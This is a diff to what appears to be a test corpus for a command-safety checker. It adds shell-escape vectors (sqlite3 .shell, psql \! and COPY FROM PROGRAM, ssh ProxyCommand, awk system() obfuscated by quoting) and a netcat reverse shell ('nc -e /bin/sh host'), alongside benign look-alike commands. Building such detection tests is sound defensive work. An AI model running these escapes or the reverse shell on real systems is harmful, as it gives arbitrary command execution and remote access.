@@ -350,10 +350,43 @@ rg --pre _ x
 dc -e _
 sqlite3 -cmd .shell x.db
 sqlite3 x.db .shell\tid
+sqlite3 x.db .sh\tid
+sqlite3 x.db .output\t|id
+sqlite3 x.db select\tedit('a','id')
+sqlite3 -cmd .system\tid x.db
+psql -c \\!\tid
+psql --command=\\!id
+psql -c \\o\t|id
+psql -c copy\ta\tfrom\tprogram\t'id'
+psql -o |id -c select
+mysql -e \\!\tid
+mysql --execute=system\tid
+mysql -e select\t1;\tsystem\tid
+mysql --pager=_ -e x
+ssh -o ProxyCommand=_ host
+ssh -oProxyCommand=_ host
+ssh -o proxycommand\tid host
+ssh -o PermitLocalCommand=yes -o LocalCommand=_ host
+ssh host -o ProxyCommand=_
+scp -o ProxyCommand=_ a b:
+sftp -o KnownHostsCommand=_ b
+nc -e /bin/sh host 1
+ncat --sh-exec _ host 1
+socat TCP:h:1 EXEC:_
+socat SYSTEM:_ -
+socat - stdio!!exec:_
+npm ci --node-options=--import=data:text/javascript,_
 awk BEGIN{system("id")}
 mawk {print|"sh"}
 gawk {"id"|getline;print}
 awk -F: {print|"sort"} x
+awk /"/;{"id"\t|\tgetline} x
+awk {a/b;system("id")} x
+awk {x++/"/;system("id")#/} x
+awk {if(1)/"/;system("id");"} x
+awk /[/]"/;{print|"sh"}#"/ x
+awk {print\t/"/;system("id");"} x
+awk {print("a|b")|"sh"} x
 gawk -e BEGIN{f="sys";@f()}
 gawk --source=BEGIN{system("id")}
 awk -f -
@@ -542,6 +575,13 @@ awk {print\t$1} x
 awk -F| {print\t$2} x
 awk -F: -v x=1 $1==x||$2>3 x
 awk -f x.awk -e y
+awk /ERROR|WARN/{print\t$2} x
+awk $3~/a@b/{print} x
+awk BEGIN{OFS="|"}{print\t$1,$2} x
+awk /systemd/{print} x
+awk {n+=$3/2;s="a|b"}END{print\tn/NR,s} x
+awk $1=="system"{print\t"a@b"} x
+awk {print\ta[1]/2}/x|y/{print} x
 gawk --csv {n++}END{print\tn} x
 sed s/a/b/g x
 sed -n 1,5p x
@@ -557,6 +597,18 @@ sed -f x.sed x
 sed /x/a\\e x
 sed --sandbox s/a/b/ x
 sqlite3 x.db select\t1
+sqlite3 x.db .tables
+sqlite3 x.db .mode\tcsv select\t1
+psql -c select\t1
+psql -f x.sql
+mysql -e select\t1
+ssh host uptime
+ssh -o ProxyCommand=none -o StrictHostKeyChecking=yes host
+scp -P 22 a b:
+nc -zv host 1
+socat TCP:h:1 STDIO
+npm run build --loglevel=error
+npm ci --node-options=--max-old-space-size=512
 dc -f x.dc
 vim x
 `;
